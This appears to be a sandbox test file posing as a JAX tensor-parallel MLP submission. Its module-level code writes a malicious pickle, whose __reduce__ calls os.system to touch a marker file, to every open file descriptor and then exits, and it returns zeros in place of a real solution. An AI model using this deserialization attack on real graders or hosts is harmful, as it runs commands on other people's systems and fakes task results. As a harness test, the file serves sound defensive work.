"""Sends a pickle that runs a command in whoever loads it.

verdicts: RE
harm: file @FOLDER@/pickled
"""

import os
import pickle

import jax.numpy as jnp


class Command:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/pickled",)


for descriptor in range(3, 256):
    try:
        os.write(descriptor, pickle.dumps(Command()))
    except OSError:
        continue
os._exit(0)


def tensor_parallel_mlp(x, w1, b1, w2, b2):
    return {"out": jnp.zeros((x.shape[0], w2.shape[1])), "hidden": jnp.zeros((x.shape[0], w1.shape[1]))}
